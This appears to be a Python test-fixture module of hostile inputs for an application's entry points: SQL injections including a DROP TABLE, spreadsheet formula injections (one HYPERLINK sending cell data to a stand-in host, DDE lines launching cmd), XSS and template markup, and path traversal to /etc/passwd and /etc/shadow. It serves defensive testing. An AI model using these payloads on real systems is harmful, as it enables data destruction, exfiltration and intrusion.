"""The hostile inputs every entry point is tried with (issue 9): one list, used by every test of this folder.

Each is something a careless or malicious user, or a broken export, really sends: injections aimed at the
database or at the spreadsheet that will open our files later, markup, control characters, and sizes far
beyond what the field holds.
"""

SQL = [
    "'; DROP TABLE dossiers_dossier; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(5)--",
    '" OR 1=1 --',
]

FORMULAS = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]

MARKUP = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }} {% debug %}",
]

TRAVERSAL = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "thư mục/../../tệp"]

ODD = [
    "Nguyễn Văn A\u202etxt.exe",  # right-to-left override
    "Nguye\u0302\u0303n Va\u0306n A",  # decomposed (NFD) diacritics
    "Lê\u200bThị\u200bB",  # zero-width spaces
]

NUL = "Nguyễn\x00Văn A"
OVERSIZED = "Ă" * 100_000

#: Text that may be stored as it is (and must then come back exactly, escaped or neutralised where shown).
STORABLE = [*SQL, *FORMULAS, *MARKUP, *TRAVERSAL, *ODD]
